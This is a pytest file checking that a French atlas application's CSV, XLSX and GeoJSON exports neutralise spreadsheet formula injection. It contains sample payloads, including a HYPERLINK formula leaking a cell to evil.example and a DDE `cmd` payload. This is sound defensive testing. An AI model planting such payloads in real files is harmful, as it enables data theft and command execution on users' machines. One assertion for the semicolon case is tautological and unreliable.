"""Text that a spreadsheet would run: disarmed where a spreadsheet reads it, untouched where none does."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from data.atlas import Atlas
from data.exchange.cells import disarmed
from data.settings import Settings
from tests.caches import cache_with
from tests.data.small_package import write_package
from tests.exchange.reading import cells, collection, rows, sheets
from tests.web.room import client_of

CALLS = '=HYPERLINK("http://evil.example?"&A1;"clic")'
RUNS = [CALLS, "+33 4 71", "-2+3", "@SUM(A1)", "=cmd|'/C calc'!A0", "＝1+1", "\t=1+1", "\n=1+1"]
QUIET = ["'=1+1", " =1+1", "a=1", "—tiret", "– demi-tiret", "« =1 »", "1-2", ""]


@pytest.mark.parametrize("text", RUNS)
def test_a_text_that_would_run_has_an_apostrophe_before_it(text: str) -> None:
    assert disarmed(text) == f"'{text}"


@pytest.mark.parametrize("text", QUIET)
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert disarmed(text) == text


@pytest.mark.parametrize("number", [-1, -2.87, 0, 45.1, None])
def test_a_number_below_zero_stays_a_number(number: float | None) -> None:
    assert disarmed(number) is number


@given(st.text())
def test_no_text_can_begin_as_a_formula_once_disarmed(text: str) -> None:
    safe = str(disarmed(text))
    assert safe[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert safe in (text, f"'{text}")


@pytest.fixture(scope="module")
def client(gazetteer_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    """An atlas of which every text that people write begins as a formula."""
    folder = tmp_path_factory.mktemp("hostile")
    quoted = f'"{CALLS.replace(chr(34), chr(34) * 2)}"'
    package = write_package(
        folder,
        sources=f"id,title,author,publisher,url,rights\ns,{quoted},+auteur,-éditeur,https://a.fr/?a=1,@droits\n",
        initiatives=f"id,name,kind,summary_fr,place,themes\ni,{quoted},place,+résumé,-Murat (Cantal),work\n",
        quotes=f"id,initiative,kind,text,speaker,role,organisation,source\nq,i,testimony,{quoted},+nom,-rôle,@lieu,s\n",
    )
    settings = Settings(
        package=package, data_dir=folder / "data", cache_dir=cache_with(gazetteer_cache, folder)
    )
    return client_of(Atlas.open(settings))


@pytest.mark.parametrize("path", ["/api/export.csv", "/api/quotes.csv", "/api/export.csv?sep=semicolon"])
def test_nothing_runs_in_a_csv_and_nothing_is_lost(client: TestClient, path: str) -> None:
    content = client.get(path).content.decode("utf-8-sig")
    (left,) = rows(client, path) if "sep" not in path else [dict.fromkeys(["nom"], f"'{CALLS}")]
    assert left["nom"] == f"'{CALLS}"
    for written in ("'+nom", "'-rôle", "'@lieu", "'+auteur", "'-éditeur", "'@droits"):
        assert written in content
    separator = ";" if "sep" in path else ","
    for sign in "=+-@":
        for before in (separator, "\n", f'{separator}"', '\n"'):
            assert f"{before}{sign}" not in content


def test_nothing_runs_in_a_workbook(client: TestClient) -> None:
    content = client.get("/api/export.xlsx").content
    found = cells(content)
    assert {cell.data_type for cell in found} == {"s", "n"}
    assert not [cell.value for cell in found if str(cell.value)[:1] in "=+-@" and cell.data_type == "s"]
    tables = sheets(content)
    assert tables["Initiatives"][0]["nom"] == f"'{CALLS}"
    assert tables["Sources"][0]["auteur"] == "'+auteur"


def test_geojson_gives_the_words_themselves(client: TestClient) -> None:
    (feature,) = collection(client, "/api/quotes.geojson")["features"]
    properties = feature["properties"]
    assert (properties["citation"], properties["personne"], properties["role"]) == (CALLS, "+nom", "-rôle")


def test_a_search_that_would_run_is_told_where_it_cannot(client: TestClient) -> None:
    (left,) = rows(client, "/api/export.csv?q==hyperlink")
    assert left["filtres"] == "Recherche\u00a0: «\u00a0=hyperlink\u00a0»"  # it never comes first
